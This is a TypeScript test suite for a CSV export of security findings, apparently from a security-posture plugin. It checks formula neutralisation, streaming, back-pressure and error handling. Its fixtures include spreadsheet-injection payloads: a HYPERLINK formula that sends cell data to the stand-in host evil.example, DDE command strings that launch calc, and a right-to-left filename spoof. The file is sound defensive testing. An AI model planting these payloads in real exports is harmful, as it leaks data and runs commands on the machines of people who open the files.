import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Finding } from '@security-posture/plugin-security-posture-common';
import { countsCsv, FINDING_CSV_COLUMNS, findingRow, findingsCsv, neutralizeCell } from './csv';

async function collect(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) {
    chunks.push(typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : chunk);
  }
  // Decode once at the end: a multi-byte character may span two chunks.
  return Buffer.concat(chunks).toString('utf8');
}

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, relax_quotes: false });
}

function headerOf(text: string): string[] {
  return parse(text, { to_line: 1, relax_quotes: false })[0];
}

async function* pagesOf(...pages: Finding[][]): AsyncIterable<Finding[]> {
  for (const page of pages) yield page;
}

function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    fingerprint: 'fp-0',
    checkId: 'catalog/leaked-secret',
    category: 'catalog',
    severity: 'high',
    outcome: 'fail',
    status: 'open',
    title: 'Leaked token',
    message: 'A token is in the entity',
    target: { type: 'entity', entityRef: 'component:default/svc' },
    location: 'metadata.annotations.x',
    entityRef: 'component:default/svc',
    entityKind: 'Component',
    owners: ['group:default/team-a'],
    evidence: {},
    remediation: 'Rotate it',
    firstSeenAt: '2026-11-01T00:00:00.000Z',
    lastSeenAt: '2026-11-02T00:00:00.000Z',
    ...overrides,
  };
}

// What a spreadsheet would evaluate as a formula (or DDE) when a cell starts with it.
const RISKY = /^[=+\-@\t\r]/;
const neutralized = (value: string) => (RISKY.test(value) ? `'${value}` : value);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1+1 after a tab',
  '\r=cmd|\' /C calc\'!A0',
  '=',
  'he said "hi", then left',
  '"starts with a quote',
  ',starts with a comma',
  'line one\nline two',
  'crlf one\r\ncrlf two\r\n',
  'trailing space ',
  ' =leading space then equals',
  "'already quoted",
  'emoji 🔥 and a family 👩‍👩‍👧‍👦',
  'مرحبا بالعالم \u202Eevil.exe\u202C',
  'combining e\u0301 a\u0300 Z\u0351\u036B',
  '',
];

describe('findingsCsv', () => {
  it('round-trips hostile cells, neutralising only formula-like ones', async () => {
    const findings: Finding[] = [];
    const expected: Record<string, string>[] = [];
    HOSTILE.forEach((text, i) => {
      const evidenceValue = HOSTILE[(i + 3) % HOSTILE.length];
      const f = finding({
        fingerprint: `fp-${i}`,
        severity: i % 2 ? 'critical' : 'low',
        title: text,
        message: HOSTILE[(i + 1) % HOSTILE.length],
        location: HOSTILE[(i + 2) % HOSTILE.length],
        evidence: { secretMask: evidenceValue },
        owners: i % 3 ? ['group:default/team-a', 'user:default/bob'] : [],
        resolvedAt: i % 4 ? undefined : '2026-11-03T00:00:00.000Z',
        status: i % 4 ? 'open' : 'resolved',
        docsUrl: i % 5 ? undefined : 'https://example.com/docs',
      });
      findings.push(f);
      expected.push({
        severity: f.severity,
        category: 'catalog',
        checkId: 'catalog/leaked-secret',
        status: f.status,
        outcome: 'fail',
        title: neutralized(text),
        message: neutralized(f.message),
        entityRef: 'component:default/svc',
        entityKind: 'Component',
        owners: f.owners.join(' '),
        target: 'component:default/svc',
        location: neutralized(f.location ?? ''),
        evidence: `secretMask=${evidenceValue}`,
        remediation: 'Rotate it',
        docsUrl: f.docsUrl ?? '',
        firstSeenAt: '2026-11-01T00:00:00.000Z',
        lastSeenAt: '2026-11-02T00:00:00.000Z',
        resolvedAt: f.resolvedAt ?? '',
        fingerprint: `fp-${i}`,
      });
    });

    // Evidence cells that themselves start risky, arrays with commas, and other target kinds.
    findings.push(
      finding({
        fingerprint: 'fp-evidence',
        title: '-negative',
        message: 'plain',
        location: undefined,
        evidence: { '=key': 'value', list: ['a,b', '"c"', '\nd'], n: 3, ok: true, none: null },
        target: { type: 'config', path: 'auth.environment' },
        entityRef: undefined,
        entityKind: undefined,
        owners: [],
      }),
      finding({
        fingerprint: 'fp-package',
        message: '@mention',
        target: { type: 'package', name: '@backstage/plugin-auth-backend', version: '0.1.0' },
        entityRef: undefined,
        entityKind: undefined,
        owners: [],
        evidence: {},
      }),
    );
    expected.push(
      {
        ...expected[0],
        fingerprint: 'fp-evidence',
        severity: 'high',
        status: 'open',
        resolvedAt: '',
        docsUrl: '',
        title: "'-negative",
        message: 'plain',
        location: '',
        evidence: `'=key=value; list=a,b,"c",\nd; n=3; ok=true; none=null`,
        target: 'config:auth.environment',
        entityRef: '',
        entityKind: '',
        owners: '',
      },
      {
        ...expected[0],
        fingerprint: 'fp-package',
        severity: 'high',
        status: 'open',
        resolvedAt: '',
        docsUrl: '',
        title: 'Leaked token',
        message: "'@mention",
        location: 'metadata.annotations.x',
        evidence: '',
        target: 'package:@backstage/plugin-auth-backend@0.1.0',
        entityRef: '',
        entityKind: '',
        owners: '',
      },
    );

    const text = await collect(
      findingsCsv(pagesOf(findings.slice(0, 5), [], findings.slice(5))),
    );

    expect(headerOf(text)).toEqual([...FINDING_CSV_COLUMNS]);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(findings.length);
    expect(rows).toEqual(expected);
    // The hostile values really were hostile: the neutralisation was exercised.
    expect(rows.filter(r => r.title.startsWith("'")).length).toBeGreaterThanOrEqual(7);
    for (const row of rows) {
      expect(Object.keys(row)).toEqual([...FINDING_CSV_COLUMNS]);
      for (const cell of Object.values(row)) {
        expect(cell).not.toMatch(RISKY);
      }
    }
  });

  it('writes exactly the bytes csv-stringify writes, in chunks of any page sizes', async () => {
    // Every hostile text in every column that holds free text, plus long cells and many rows,
    // so that rows and multi-byte characters straddle the chunks the stream hands out.
    const findings: Finding[] = [];
    for (let i = 0; i < 3000; i++) {
      const text = (k: number) => HOSTILE[(i + k) % HOSTILE.length];
      findings.push(
        finding({
          fingerprint: `fp-${i}`,
          title: text(0),
          // Cells longer than a chunk of the stream (64 KiB), in one- and multi-byte characters.
          message: i % 97 ? text(1) : `${text(1)} ${i % 2 ? 'x'.repeat(70_000) : '🔥'.repeat(40_000)}`,
          location: i % 5 ? text(2) : undefined,
          entityRef: i % 7 ? `component:default/${text(3)}` : undefined,
          entityKind: i % 7 ? text(4) : undefined,
          owners: i % 3 ? [text(5), text(6)] : [],
          evidence: { a: text(7), list: [text(8), text(9)], n: i, ok: i % 2 === 0 },
          target: [
            { type: 'config', path: text(10) } as const,
            { type: 'package', name: text(11), version: i % 8 ? '1.0.0' : undefined } as const,
            { type: 'entity', entityRef: text(12) } as const,
            { type: 'deployment' } as const,
          ][i % 4],
          remediation: text(13),
          docsUrl: i % 2 ? text(14) : undefined,
          resolvedAt: i % 6 ? undefined : text(15),
        }),
      );
    }
    // Short rows ending in multi-byte text of every length: some of it meets every chunk end.
    for (let i = 0; i < 3000; i++) {
      findings.push(
        finding({
          fingerprint: `fp-short-${i}`,
          title: 't',
          message: 'm',
          location: undefined,
          remediation: `r${'é🔥'.repeat(i % 37)}`,
        }),
      );
    }
    const expected = stringify(findings.map(findingRow), {
      header: true,
      columns: [...FINDING_CSV_COLUMNS],
      quoted_match: /[\s,"]/,
      cast: { string: neutralizeCell },
    });
    const pages = [findings.slice(0, 1), [], findings.slice(1, 1001), findings.slice(1001)];
    expect(await collect(findingsCsv(pagesOf(...pages)))).toBe(expected);
    expect(await collect(findingsCsv(pagesOf()))).toBe(
      stringify([], { header: true, columns: [...FINDING_CSV_COLUMNS] }),
    );
  });

  it('propagates a failure of the page source as a stream error', async () => {
    async function* failing(): AsyncIterable<Finding[]> {
      yield [finding({ fingerprint: 'a' }), finding({ fingerprint: 'b' })];
      throw new Error('database went away');
    }
    const stream = findingsCsv(failing());
    await expect(collect(stream)).rejects.toThrow('database went away');
    expect(stream.destroyed).toBe(true);
    expect(stream.readableEnded).toBe(false);
  });

  it('streams many pages without reading ahead of the consumer', async () => {
    const PAGES = 50;
    const PER_PAGE = 200;
    let pulled = 0;
    async function* many(): AsyncIterable<Finding[]> {
      for (let p = 0; p < PAGES; p++) {
        pulled += 1;
        yield Array.from({ length: PER_PAGE }, (_, i) =>
          finding({
            fingerprint: `fp-${p}-${i}`,
            message: `finding ${i} of page ${p}: "quoted", and\nmultiline =x`,
          }),
        );
      }
    }
    const stream = findingsCsv(many());

    // Nobody reads yet: back-pressure must stop the producer after a few pages.
    for (let i = 0; i < 20; i++) await new Promise(resolve => setImmediate(resolve));
    expect(pulled).toBeGreaterThan(0);
    expect(pulled).toBeLessThan(PAGES / 2);

    const rows = parseCsv(await collect(stream));
    expect(pulled).toBe(PAGES);
    expect(rows).toHaveLength(PAGES * PER_PAGE);
    expect(new Set(rows.map(r => r.fingerprint)).size).toBe(PAGES * PER_PAGE);
    expect(rows[0].fingerprint).toBe('fp-0-0');
    expect(rows[rows.length - 1]).toMatchObject({
      fingerprint: `fp-${PAGES - 1}-${PER_PAGE - 1}`,
      message: `finding ${PER_PAGE - 1} of page ${PAGES - 1}: "quoted", and\nmultiline =x`,
    });
  });
  it('ends for every kind of consumer, whatever the size of the pages', async () => {
    // Reads arrive while a page is being written, in whatever order the consumer's scheduling
    // gives them; a read ignored then must not leave the stream stalled.
    const small: Finding = {
      fingerprint: 'f',
      checkId: 'c',
      category: 'catalog',
      severity: 'high',
      outcome: 'fail',
      status: 'open',
      title: 't',
      message: 'm',
      target: { type: 'deployment' },
      owners: [],
      evidence: {},
      remediation: 'r',
      firstSeenAt: 'a',
      lastSeenAt: 'b',
    };
    const later = {
      microtask: (cb: () => void) => queueMicrotask(cb),
      nextTick: (cb: () => void) => process.nextTick(cb),
      immediate: (cb: () => void) => setImmediate(cb),
    };
    const consumers: Record<string, (stream: Readable) => Promise<number>> = {
      forAwait: async stream => (await collect(stream)).length,
      // Reads on every microtask for a while, then on every turn of the event loop; gives up
      // (with the bytes so far) when nothing more comes.
      polling: stream =>
        new Promise(resolve => {
          let bytes = 0;
          let ended = false;
          let turns = 0;
          stream.on('end', () => {
            ended = true;
          });
          const poll = (microtasks: number) => {
            for (let chunk = stream.read(); chunk !== null; chunk = stream.read()) {
              bytes += chunk.length;
            }
            if (ended || turns > 5000) resolve(bytes);
            else if (microtasks < 20) queueMicrotask(() => poll(microtasks + 1));
            else {
              turns += 1;
              setImmediate(() => poll(0));
            }
          };
          poll(0);
        }),
      readable: stream =>
        new Promise((resolve, reject) => {
          let bytes = 0;
          stream.on('readable', () => {
            for (let chunk = stream.read(); chunk !== null; chunk = stream.read()) {
              bytes += chunk.length;
            }
          });
          stream.on('end', () => resolve(bytes));
          stream.on('error', reject);
        }),
      ...Object.fromEntries(
        Object.entries(later).map(([name, schedule]) => [
          `pipe-${name}`,
          async (stream: Readable) => {
            let bytes = 0;
            const sink = new Writable({
              highWaterMark: 1024,
              write(chunk: Buffer, _encoding, callback) {
                bytes += chunk.length;
                schedule(() => callback());
              },
            });
            await pipeline(stream, sink);
            return bytes;
          },
        ]),
      ),
    };
    const header = (await collect(findingsCsv(pagesOf()))).length;
    const rowBytes = (await collect(findingsCsv(pagesOf([small])))).length - header;
    for (const [name, consume] of Object.entries(consumers)) {
      for (const pageCount of [1, 2, 3, 7]) {
        for (const perPage of [1, 300, 1000, 2500]) {
          const pages = Array.from({ length: pageCount }, () => Array(perPage).fill(small));
          const bytes = await consume(findingsCsv(pagesOf(...pages)));
          expect({ name, pageCount, perPage, bytes }).toEqual({
            name,
            pageCount,
            perPage,
            bytes: header + pageCount * perPage * rowBytes,
          });
        }
      }
    }
  });

  it('stops reading pages when the consumer goes away', async () => {
    let pulled = 0;
    let closed = false;
    async function* endless(): AsyncIterable<Finding[]> {
      try {
        for (let p = 0; ; p++) {
          pulled += 1;
          yield Array.from({ length: 200 }, (_, i) => finding({ fingerprint: `fp-${p}-${i}` }));
        }
      } finally {
        closed = true;
      }
    }
    const stream = findingsCsv(endless());
    const firstChunk = await new Promise(resolve => stream.once('data', resolve));
    expect(String(firstChunk)).toContain('severity,category,checkId');
    stream.destroy(); // e.g. the HTTP client disconnected mid-download

    for (let i = 0; i < 50 && !closed; i++) {
      await new Promise(resolve => setImmediate(resolve));
    }
    expect(closed).toBe(true);
    const pulledWhenClosed = pulled;
    await new Promise(resolve => setTimeout(resolve, 20));
    expect(pulled).toBe(pulledWhenClosed);
  });
});

describe('countsCsv', () => {
  it('writes one neutralised row per severity', async () => {
    const text = await collect(
      countsCsv('=cmd|calc', { critical: 1, high: 2, medium: 0, low: 4, info: 5 }),
    );
    expect(headerOf(text)).toEqual(['entityRef', 'severity', 'openFindings']);
    expect(parseCsv(text)).toEqual([
      { entityRef: "'=cmd|calc", severity: 'critical', openFindings: '1' },
      { entityRef: "'=cmd|calc", severity: 'high', openFindings: '2' },
      { entityRef: "'=cmd|calc", severity: 'medium', openFindings: '0' },
      { entityRef: "'=cmd|calc", severity: 'low', openFindings: '4' },
      { entityRef: "'=cmd|calc", severity: 'info', openFindings: '5' },
    ]);
  });
});
